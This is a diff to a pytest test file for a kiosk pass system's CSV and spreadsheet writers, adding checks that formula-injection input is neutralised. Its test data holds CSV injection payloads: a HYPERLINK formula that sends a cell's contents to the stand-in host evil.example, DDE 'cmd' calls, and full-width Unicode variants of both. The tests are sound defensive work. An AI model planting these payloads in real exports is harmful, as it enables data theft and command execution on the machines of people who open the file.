@@ -23,6 +23,16 @@ PACKAGES = ("kiosk", "drivers", "ui", "checkpoint", "office")
 #: A holder's name a stranger could have the office type in: Excel runs it when it opens the CSV.
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"open")'
 HOSTILE = (HYPERLINK, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|x", "\t=1+1")
+#: The same typed by a Chinese input method in full-width mode (``＝ ＋ － ＠``, and the small
+#: forms ``﹦ ﹢ ﹣ ﹫``): their compatibility form (NFKC) is the formula's lead, and the
+#: spreadsheet, or a clerk's "convert to half width" before saving, reads them as it.
+WIDE = (
+    '＝HYPERLINK("http://evil.example")',
+    "＋cmd|' /C calc'!A0",
+    "－2+3+cmd|x",
+    "＠SUM(1)",
+    "﹦1+1",
+)
 PHONE = "+86 138 0013 8000"
 
 
@@ -135,7 +145,10 @@ def check_api_csv(request: pytest.FixtureRequest, text: str) -> None:
 
 
 def check_pass_batch(request: pytest.FixtureRequest, text: str) -> None:
-    text = text[:20].strip()  # a pass holds 22 bytes of household and holder
+    from kiosk.typed import typed
+
+    # A pass holds 22 bytes of household and holder, in their plain spelling (``＝`` is ``=``).
+    text = typed(text[:20].strip())
     tmp_path: Path = request.getfixturevalue("tmp_path")
     keys = tmp_path / "keys"
     assert main(["keys", "new", "--dir", str(keys), "--name", "office"]) == 0
@@ -209,7 +222,11 @@ def test_every_place_that_writes_a_sheet_has_its_check_here():
     assert _sheet_call_sites() == set(WRITERS)
 
 
-@pytest.mark.parametrize("text", HOSTILE, ids=["hyperlink", "plus", "minus", "at", "tab"])
+@pytest.mark.parametrize(
+    "text",
+    HOSTILE + WIDE,
+    ids=["hyperlink", "plus", "minus", "at", "tab", "wide=", "wide+", "wide-", "wide@", "small="],
+)
 @pytest.mark.parametrize("writer", sorted(WRITERS))
 def test_text_in_every_sheet_is_never_a_formula(request, writer, text):
     WRITERS[writer](request, text)
@@ -219,6 +236,16 @@ def test_a_holder_named_like_a_formula_is_text_in_the_batchs_passes_csv(request)
     """Before: passes.csv held ``=HYPERLINK(...)`` bare, and Excel ran it when the office
     opened the batch's manifest (the guard's exports had the rule; the batch did not)."""
     check_pass_batch(request, '=HYPERLINK("x.cn")')
+
+
+def test_a_cell_led_by_a_line_feed_or_a_nul_is_quoted_too():
+    """A line feed first (a spreadsheet skips it as it skips a tab or a CR) and a NUL (OWASP
+    ASVS 1.2.10 lists it with the formula leads) get the leading ``'`` too."""
+    from kiosk.sheets import formula_safe
+
+    assert formula_safe("\n=1+1") == "'\n=1+1"
+    assert formula_safe("\0=1+1") == "'\0=1+1"
+    assert formula_safe("＝1+1") == "'＝1+1" and formula_safe("１-１０１") == "１-１０１"
 
 
 def test_a_phone_number_in_a_csv_keeps_its_digits_behind_one_quote():
